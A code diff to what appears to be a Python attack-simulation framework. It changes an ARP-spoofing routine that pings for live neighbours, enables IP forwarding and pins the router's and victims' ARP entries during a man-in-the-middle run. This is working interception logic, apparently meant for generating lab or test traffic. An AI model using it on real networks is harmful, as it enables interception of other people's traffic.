@@ -21,11 +21,12 @@ def arp_spoofing(w: Work, intensity: str) -> None:
     near = [host for host in HOSTS.values() if host.subnet is w.host.subnet and host is not w.host and not host.absent]
     router = f"{w.host.subnet.v4}.1"
     w.rng.shuffle(near)
-    # arpspoof wants hardware addresses that are known: it takes those who answer.
+    # Takes those who answer, and keeps their hardware addresses: a packet that has to wait for one loses its owner.
     w.run("ping", "-n", "-c", 1, "-W", 1, router)
     alive = (host for host in near if w.run("ping", "-n", "-c", 1, "-W", 1, host.v4, good=(0, 1)).returncode == 0)
     victims = list(itertools.islice(alive, by(intensity, 3, 1, 1)))
     rounds, seconds = by(intensity, (1, 60), (1, 60), (3, 10))
+    _remember(w, [router, *(victim.v4 for victim in victims)], "permanent")
     _FORWARDING.write_text("1")
     _REDIRECTS.write_text("0")
     try:
@@ -41,6 +42,12 @@ def arp_spoofing(w: Work, intensity: str) -> None:
                 each.wait()
     finally:
         _FORWARDING.write_text("0")
+        _remember(w, [router, *(victim.v4 for victim in victims)], "stale")
+
+
+def _remember(w: Work, addresses: list[str], state: str) -> None:
+    for address in addresses:
+        w.run("ip", "neighbour", "change", address, "dev", "eth0", "nud", state)
 
 
 @attack("rogue-device", owns=("rogue",))
